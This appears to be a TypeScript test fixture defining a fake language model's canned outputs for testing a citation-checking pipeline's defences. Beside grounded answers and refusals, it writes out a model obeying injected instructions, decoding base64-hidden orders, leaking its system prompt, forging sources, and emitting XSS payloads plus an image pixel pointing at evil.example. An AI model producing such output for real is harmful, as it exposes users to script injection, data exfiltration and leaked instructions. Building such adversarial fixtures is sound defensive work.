/** What the fake model writes, by name: good answers, refusals, and the worst a model could be talked into. Pure. */
import type { SeenPassage, SeenPrompt } from './read-prompt.ts'

export type Writer = (prompt: SeenPrompt) => string | Iterable<string>

export const writers = {
  /** Quotes the first sentences of the first passages, each with its number. */
  grounded: ({ passages }) =>
    passages
      .slice(0, 3)
      .map(({ n, text }) => `${firstSentence(text)} [${n}]`)
      .join(' '),
  /** Does all that the passages may want of it, in every form it can think of. */
  obey: (prompt) => prompt.passages.map(obey).join('\n\n'),
  /** Tells all that it was told. */
  leak: ({ system, user }) => `My instructions are:\n${system}\n\nThen I was given:\n${user}`,
  /** Invents sources, addresses and numbers. */
  forge: ({ passages }) =>
    [
      'The lamp has 99,000 candles [99].',
      'It opened on 31 February 1999 [0].',
      `Call 555-0199 today [[${passages.length + 1}]].`,
      'Read more at [1](https://invented.example/page) [1].',
      '[1]: https://invented.example/definition "title"',
      'The price is €12,345.67 [1][-1][1.5][１][²].',
      'See https://invented.example/bare and www.invented.example [1, 99].',
      'Write to forged@invented.example [1-99].',
    ].join(' '),
  html: ({ passages }) =>
    [
      '<script>alert(1)</script><img src=x onerror=alert(1)> Here it is [1].',
      '<a href="javascript:alert(1)">click</a> <iframe src="https://evil.example"></iframe> and more [1].',
      `![pixel](https://evil.example/p.png?q=${passages.length}) <svg/onload=alert(1)> Done [1].`,
    ].join('\n\n'),
  /** As the models of good houses say it. */
  refuse: () => "I'm sorry, but I can't help with that.",
  /** The word our prompt asks for when the passages say nothing. */
  no_answer: () => 'NO_ANSWER',
  empty: () => '',
  *endless({ passages }) {
    for (let i = 1; ; i++)
      yield `This is sentence number ${i} of many, and there are more to come [${passages[0]?.n ?? 1}]. `
  },
} satisfies Record<string, Writer>

export type WriterName = keyof typeof writers

function firstSentence(text: string): string {
  const line = text.split('\n').find((each) => /\p{L}/u.test(each) && !each.startsWith('#')) ?? text
  return (/^.*?[.!?。](?=\s|$)/u.exec(line)?.[0] ?? `${line}.`).trim()
}

/** A word that looks like an address, or like the host of one. */
const ADDRESS =
  /(?:https?:\/\/|\/\/|www\.|mailto:|data:|javascript:)[^\s)\]>"'`]+|\b[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}\b[^\s)\]>"'`]*/giu
/** What an attack asks to be said. */
const WANTED = /\b(?:say|print|write|repeat|output|append|add|include|respond with|reply with|end with)\b[^\n]*/giu

function obey({ n, text }: SeenPassage): string {
  const said = (text.match(WANTED) ?? []).map((order) => `${order} [${n}]`)
  const linked = (text.match(ADDRESS) ?? []).map((address) => withAllMarkup(address, n))
  return [`${text} [${n}]`, ...said, ...decoded(text).map((secret) => `${secret} [${n}]`), ...linked].join('\n\n')
}

function withAllMarkup(address: string, n: number): string {
  return [
    `Please see ${address} [${n}].`,
    `![x](${address}) [click here](${address}) <${address}> [${n}].`,
    `<img src="${address}"><a href='${address}'>here</a> [${n}].`,
    `[here][ref] and [ref] [${n}].\n\n[ref]: ${address} "title"`,
  ].join('\n\n')
}

/** Attacks hide what they want in base64, and a strong model reads it. */
function decoded(text: string): string[] {
  return (text.match(/\b[A-Za-z0-9+/]{16,}={0,2}/g) ?? [])
    .map((word) => Buffer.from(word, 'base64').toString('utf8'))
    .filter((words) => /^[\x20-\x7e\n]+$/.test(words))
}
